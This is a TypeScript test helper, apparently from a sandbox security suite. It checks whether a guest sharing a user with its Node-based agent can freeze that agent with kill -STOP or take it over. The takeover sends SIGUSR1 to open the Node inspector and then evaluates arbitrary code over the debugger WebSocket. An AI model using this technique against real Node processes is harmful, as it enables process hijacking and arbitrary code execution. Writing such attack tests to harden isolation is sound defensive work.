/**
 * A guest that has power over its agent: both run as one user, so the guest may stop it, or
 * switch on the debugger of the agent's Node and have it evaluate what it likes.
 */
import type { AttackServer } from './attack-server.ts';
import type { GuestSession } from './guest-session.ts';
import { someStopped } from './host-processes.ts';

const STOPPED_WITHIN_MS = 10_000;

/** Stops the agent; process 1 of a container cannot be stopped from inside. */
export async function stopAgent(server: AttackServer, guest: GuestSession): Promise<void> {
  await guest.run('mkfifo /tmp/go');
  await guest.start('read go < /tmp/go; kill -STOP $PPID; sleep 60');
  // Nobody answers this any more.
  void guest.start('echo go > /tmp/go');
  if (server.backend === 'bubblewrap' && !(await someStopped(server.pid, STOPPED_WITHIN_MS))) {
    throw new Error('the agent was not stopped');
  }
}

/** Run in the guest; its argument is evaluated by the agent. */
const TAKEOVER = `
import { readdirSync, readFileSync } from 'node:fs';
const isAgent = (pid) => {
  try {
    return readFileSync('/proc/' + pid + '/cmdline', 'latin1').includes('/opt/ae/agent/main.js\\0')
      && !readFileSync('/proc/' + pid + '/comm', 'latin1').startsWith('bwrap');
  } catch { return false; }
};
const agent = Number(readdirSync('/proc').filter((name) => /^\\d+$/.test(name)).find(isAgent));
process.kill(agent, 'SIGUSR1');
let targets;
for (let attempt = 0; attempt < 50 && targets === undefined; attempt += 1) {
  try {
    targets = await (await fetch('http://127.0.0.1:9229/json/list')).json();
  } catch {
    await new Promise((resolve) => setTimeout(resolve, 50));
  }
}
if (targets === undefined) { console.log('the agent opens no debugger'); process.exit(3); }
const socket = new WebSocket(targets[0].webSocketDebuggerUrl);
await new Promise((resolve) => (socket.onopen = resolve));
const answer = new Promise((resolve) => (socket.onmessage = ({ data }) => resolve(data)));
socket.onclose = () => process.exit(0);
const params = { expression: process.argv[2], includeCommandLineAPI: true, returnByValue: true };
socket.send(JSON.stringify({ id: 1, method: 'Runtime.evaluate', params }));
console.log(await answer);
process.exit(0);
`;

/** True when the agent took `script`; false when it does not let itself be taken over. */
export async function takeOverAgent(guest: GuestSession, script: string): Promise<boolean> {
  await guest.write('/tmp/takeover.mjs', TAKEOVER);
  await guest.write('/tmp/script.js', script);
  const { exitCode } = await guest.run('node /tmp/takeover.mjs "$(cat /tmp/script.js)"');
  // 3: no debugger opened. Without an end, the script has cut the agent off, as it was to.
  return exitCode !== 3;
}
